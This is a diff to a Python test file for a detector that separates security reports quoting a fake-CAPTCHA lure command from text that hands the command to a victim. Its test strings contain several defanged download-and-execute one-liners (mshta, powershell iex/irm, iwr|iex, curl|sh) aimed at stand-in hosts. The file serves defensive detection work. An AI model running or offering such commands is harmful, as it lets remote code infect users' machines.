@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from app.detection.prose import is_prose, is_sample_write_up, is_write_up
+from app.detection.prose import is_prose, is_sample_write_up, is_write_up, reads_as_report
 
 COMMENTS = "# Zoom SDK audio support update for the meeting client\n# Apple notarized helper and nothing else is required here\n"
 
@@ -90,3 +90,48 @@ def test_a_sample_with_an_order_or_a_command_outside_the_block_is_not() -> None:
     # parentheses that open a line are a subshell, not a quote in a sentence
     assert not is_sample_write_up("(iwr hxxps://a[.]test/p | iex)\nThe page copied that.")
     assert not is_sample_write_up("Fix: (curl -s hxxps://a[.]test/s | sh) then press Enter")
+
+
+def test_a_report_quotes_a_command_after_a_colon_in_a_chat_line_and_among_cjk_sentences() -> None:
+    # (only asked of a text whose every address is defanged, pasted where nothing runs)
+    assert reads_as_report(
+        "Aviso de seguridad: la página falsa pide pegar lo siguiente: mshta "
+        "hxxps://verif-es[.]example/c.hta. No lo ejecutes y avisa al equipo de seguridad."
+    )
+    assert reads_as_report(
+        "saw this one in a ticket today: powershell -nop -w h -c "
+        '"iex(irm hxxp://198.51.100[.]7/p)" — already blocked at the edge'
+    )
+    assert reads_as_report(
+        "new lure variant: the page tells you to press Win+X and paste. payload still "
+        "`iwr hxxps://upd-win[.]example/s|iex`. updated the awareness page."
+    )
+    assert reads_as_report(
+        "セキュリティ通信：偽のCAPTCHA画面でコピーされる文字列の例は mshta "
+        "hxxps://jp-check[.]example/v.hta です。心当たりのある方は情報セキュリティ室まで連絡してください。"
+    )
+    assert reads_as_report(
+        "Example of what the fake page copies (do not run):\n\n"
+        'cmd /c start /min powershell -w h -c "iex(irm hxxps://v[.]example)"\n\n'
+        "Notice the hidden window and the download piped to iex."
+    )
+
+
+def test_a_command_led_line_is_no_report_unless_set_between_sentences() -> None:
+    # the command last, first, or alone: what is handed over
+    assert not reads_as_report(
+        'Bitte bestätigen Sie, dass Sie ein Mensch sind:\npowershell -w h -c "iwr hxxps://p[.]example/s|iex"'
+    )
+    assert not reads_as_report(
+        'powershell -w h -c "iwr hxxps://p[.]example/s|iex"\nThis is a report of it.'
+    )
+    assert not reads_as_report("mshta hxxps://jp-check[.]example/v.hta")
+    # a line that starts a command of its own inside it, a short CJK line, no sentence at all
+    assert not reads_as_report("note: $(curl -fsSL hxxps://x[.]example/i) was seen in the ticket")
+    assert not reads_as_report("例：mshta hxxps://x[.]example/v")
+    assert not reads_as_report("")
+    # most lines samples: a list of commands, not a mail
+    assert not reads_as_report(
+        "Seen today:\nmshta hxxps://a[.]example/v\nThat was all of it.\nAnd then:\n"
+        "mshta hxxps://b[.]example/v\nAnd then it was over."
+    )
